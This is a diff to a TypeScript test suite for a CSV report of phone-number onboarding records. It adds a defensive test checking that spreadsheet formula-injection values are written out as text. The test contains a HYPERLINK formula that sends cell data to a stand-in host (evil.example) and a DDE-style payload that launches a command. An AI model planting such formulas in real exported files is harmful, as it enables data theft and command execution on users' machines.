@@ -158,9 +158,10 @@ describe('report output', () => {
     assert.deepEqual(
       rows.map((r) => [r.customerId, r.phoneNumber, r.cnam, r.observedAttestation]),
       [
-        ['acme-dental', '+14155550100', 'pending', 'A'],
-        ['acme-dental', '+16135550100', 'ineligible: CNAM takes US numbers only, not Canadian', 'B'],
-        ['cedar-law', '+14155550103', '', ''],
+        // E.164 starts with `+`, which a spreadsheet reads as a formula: prefixed (see the next test).
+        ['acme-dental', "'+14155550100", 'pending', 'A'],
+        ['acme-dental', "'+16135550100", 'ineligible: CNAM takes US numbers only, not Canadian', 'B'],
+        ['cedar-law', "'+14155550103", '', ''],
         ['gone', '', '', ''],
       ],
     );
@@ -180,5 +181,37 @@ describe('report output', () => {
       / not-assigned: taken off in the Console +active +ineligible: CNAM takes US numbers only, not Canadian +B +2026-11-30T08:00:00\.000Z +drift: observed B, inferred A;/,
     );
     assert.equal(lines.length, 2 + 4);
+  });
+
+  test('--csv: a cell that would run as a formula in a spreadsheet is written as text', async () => {
+    const link = '=HYPERLINK("https://evil.example/?"&A1,"Fix your profile")';
+    const hostile: OnboardingView = {
+      ...cedar,
+      phoneNumbers: [
+        { ...cedar.phoneNumbers[0]!, phoneNumber: '@SUM(1+1)*cmd|" /C calc"!A0', blockedBy: link },
+      ],
+    };
+    const hostileApi = {
+      async *onboardings(): AsyncGenerator<OnboardingSummary> {
+        yield { id: hostile.id, customerId: 'cedar-law', status: 'running', step: 'serving', startedAt: '' };
+        // A record the API cannot answer for: its line is built from the listing's own cells.
+        yield { id: 'onboarding-gone', customerId: 'gone', status: '-2+3', step: '+cmd', startedAt: '' };
+      },
+      async request(_method: string, path: string) {
+        return path === `/v1/onboardings/${hostile.id}`
+          ? { status: 200, body: hostile }
+          : { status: 404, body: undefined };
+      },
+    } as unknown as ApiClient;
+    let text = '';
+    assert.equal(await report(hostileApi, { csv: true, concurrency: 1 }, (out) => (text += out)), 0);
+    const rows = parse<Record<string, string>>(text, { columns: true });
+    assert.equal(rows[0]!.blockedBy, `'${link}`);
+    assert.equal(rows[0]!.phoneNumber, `'@SUM(1+1)*cmd|" /C calc"!A0`);
+    assert.deepEqual([rows[1]!.status, rows[1]!.step], ["'-2+3", "'+cmd"]);
+    // No cell of the sheet starts a formula.
+    for (const row of rows) {
+      for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
+    }
   });
 });
